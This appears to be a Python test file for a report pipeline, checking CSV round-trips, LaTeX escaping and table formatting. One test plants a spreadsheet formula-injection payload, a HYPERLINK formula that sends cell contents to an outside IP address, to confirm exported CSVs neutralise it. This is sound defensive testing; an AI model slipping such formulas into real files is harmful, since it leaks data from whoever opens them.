"""Tables: CSV that is read back exactly, LaTeX that prints what it is given, cells that readers can read."""

import csv
from datetime import date
from math import nan
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from framing.corpus.datasheet.spreadsheet import read_csv, to_csv
from framing.experiments.results import Results, write_results
from framing.reports.make import make
from framing.reports.tables.columns import Column, written
from framing.reports.tables.latex import escape, to_latex
from framing.reports.tables.sheets import sheets

SCHEMA = {
    "text": pl.String(),
    "real": pl.Float64(),
    "whole": pl.Int64(),
    "day": pl.Date(),
    "flag": pl.Boolean(),
}
ROWS = st.lists(
    st.tuples(
        st.none() | st.text(st.characters(codec="utf-8", exclude_characters="\r\0"), max_size=12),
        st.none() | st.floats(allow_nan=True),
        st.none() | st.integers(-(2**40), 2**40),
        st.none() | st.dates(date(1900, 1, 1), date(2100, 1, 1)),
        st.none() | st.booleans(),
    ),
    min_size=1,
    max_size=6,
)


@given(ROWS)
def test_a_table_is_read_back_from_csv_exactly_as_it_was(rows: list[tuple[object, ...]]) -> None:
    table = pl.DataFrame(rows, schema=SCHEMA, orient="row").with_columns(row=pl.lit(1))
    data = to_csv(table)
    back = read_csv(data, {**SCHEMA, "row": pl.Int32()})
    assert back.equals(table, null_equal=True)


def test_csv_files_are_read_with_the_types_a_plot_names(tmp_path: Path) -> None:
    table = pl.DataFrame(
        {"outlet": ["007", "1e5"], "value": [0.1 + 0.2, nan], "day": [date(2024, 5, 1), None]}
    )
    columns = {"outlet": pl.String(), "value": pl.Float64(), "day": pl.Date()}
    (tmp_path / "t.csv").write_bytes(to_csv(table))
    assert read_csv(tmp_path / "t.csv", columns).equals(table)


def test_latex_signs_are_escaped() -> None:
    assert escape(r"A_1 & 5% #2 {x} $y$ ~ ^ \z") == (
        r"A\_1 \& 5\% \#2 \{x\} \$y\$ \textasciitilde{} \textasciicircum{} \textbackslash{}z"
    )
    assert escape("−0.5 – “quoted” <b>") == r"$-$0.5 -- ``quoted'' \textless{}b\textgreater{}"


def test_a_latex_table_has_rules_caption_and_label_and_one_line_per_row() -> None:
    columns = (Column(name="a", heading="Group"), Column(name="b", heading="n_1", kind="count"))
    text = to_latex("design", columns, [["state", "8"], ["in & out", "7"]], "Groups, 100%", "A note")
    for part in (
        r"\begin{tabular}{lr}",
        r"\toprule",
        r"\midrule",
        r"\bottomrule",
        r"\caption{Groups, 100\%}",
        r"\label{tab:design}",
        r"    Group & n\_1 \\",
        r"    in \& out & 7 \\",
        r"\footnotesize A note",
    ):
        assert part in text
    assert text.count("\\\\\n") == 3


def test_every_table_in_latex_has_balanced_braces_and_even_columns(report: Path) -> None:
    for path in sorted((report / "tables").glob("*.tex")):
        text = path.read_text(encoding="utf-8").replace(r"\{", "").replace(r"\}", "")
        assert text.count("{") == text.count("}"), path.name
        rows = [line for line in text.splitlines() if line.endswith("\\\\")]
        assert len({line.replace(r"\&", "").count("&") for line in rows}) == 1, path.name


def test_an_estimate_and_its_limits_are_written_with_the_same_decimals() -> None:
    table = pl.DataFrame(
        {
            "measure": ["a", "a", "b"],
            "value": [11.64, 0.2, 0.0123],
            "low": [6.11, -0.1, None],
            "p": [0.012, nan, 0.5],
        }
    )
    columns = [
        Column(name="value", heading="", kind="signed"),
        Column(name="low", heading="", kind="number"),
        Column(name="p", heading="", kind="p"),
    ]
    assert written(table, columns, together=("value", "low")) == [
        ["+11.6", "6.1", ".012"],
        ["+0.2", "−0.1", "–"],
        ["+0.0123", "–", ".500"],
    ]


def test_every_shown_column_stands_in_the_csv_too(results: Results) -> None:
    for sheet in sheets(results):
        assert {column.name for column in sheet.columns} <= set(sheet.rows.columns), sheet.name


def test_the_csv_of_estimates_has_every_digit(report: Path, results: Results) -> None:
    table = pl.read_csv(report / "tables" / "estimates.csv")
    assert sorted(table["value"]) == sorted(results.estimates["value"])


def test_tables_without_rows_are_not_made(results: Results) -> None:
    from tests.reports.synthetic import without_estimates

    made = {sheet.name for sheet in sheets(without_estimates(results))}
    assert made == {"design", "dimensions", "remarks"}


@pytest.mark.parametrize("name", ["contrast", "outlet_values", "keyness", "dropped", "design"])
def test_the_main_tables_are_made(report: Path, name: str) -> None:
    assert (report / "tables" / f"{name}.csv").is_file()
    assert (report / "tables" / f"{name}.tex").is_file()


def test_no_file_of_a_report_holds_a_formula_for_a_spreadsheet(results: Results, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://198.51.100.1/?"&A1)'
    tables = {
        "design": results.design,
        "evidence": results.evidence.head(2).with_columns(title=pl.lit(formula), left=pl.lit("-2+3")),
        "keyness": results.keyness.head(8).with_columns(feature=pl.lit("@") + pl.col("feature")),
    }
    write_results(tmp_path / "stages" / "01-results" / "out", results.facts, tables)
    make(tmp_path)
    cells: dict[str, list[str]] = {}
    for file in [*tmp_path.glob("tables/*.csv"), *tmp_path.glob("figures/*/data.csv")]:
        with file.open(encoding="utf-8", newline="") as opened:
            cells[file.name] = [cell for row in csv.reader(opened) for cell in row]
    assert {f"'{formula}", "'-2+3"} <= set(cells["evidence.csv"])
    assert [cell for each in cells.values() for cell in each if cell[:1] in {"=", "@"}] == []
    below = [cell for cell in cells["keyness.csv"] if cell.startswith("-")]
    assert below  # numbers stay numbers
    assert all(float(cell) < 0 for each in cells.values() for cell in each if cell.startswith("-"))
    assert any(cell.startswith("'@") for cell in cells["data.csv"])
